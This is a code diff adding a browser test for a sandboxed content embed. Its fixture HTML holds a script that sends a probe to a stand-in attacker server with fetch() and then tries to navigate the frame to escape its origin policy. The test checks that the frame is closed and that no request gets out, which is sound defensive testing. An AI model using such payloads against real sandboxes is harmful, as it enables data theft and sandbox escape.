@@ -98,6 +98,20 @@ describeInBrowser("what a run embeds", ({ serve, open, mistakes }: Browsing) => 
     expect(mistakes().filter((text) => !/Content Security Policy|is sandboxed/.test(text))).toEqual([]);
   });
 
+  test("gets its document once: one that leads itself to another policy gets nothing, and is closed", async () => {
+    const evil = await elsewhere(() => ["text/plain", "got it"]);
+    const html = `<p>secret words</p><script>
+      fetch("${evil.url}/" + typeof RTCPeerConnection).catch(() => {});
+      setTimeout(() => { location = "/frame?origin=" + encodeURIComponent("${evil.url}"); }, 50);</script>`;
+    const page = await open(await serve(embeds({ embed: "e", html, title: "Evil", origins: [evil.url] })));
+    await show(page);
+    await page.getByRole("button", { name: "Show without" }).click();
+    await page.getByText("Evil tried to load another document, so it was closed.").waitFor();
+    expect(await page.locator('iframe[title="Evil"]').count()).toBe(0);
+    expect(evil.asked).toEqual([]);
+    mistakes();
+  });
+
   test("its height follows its content, and its words are only proposed", async () => {
     const html = `<div id="box" style="height:300px"></div><button onclick="box.style.height='900px'">more</button>
       <button onclick="parent.postMessage({ runcast: { draft: 'and tomorrow?' } }, '*')">ask</button>`;
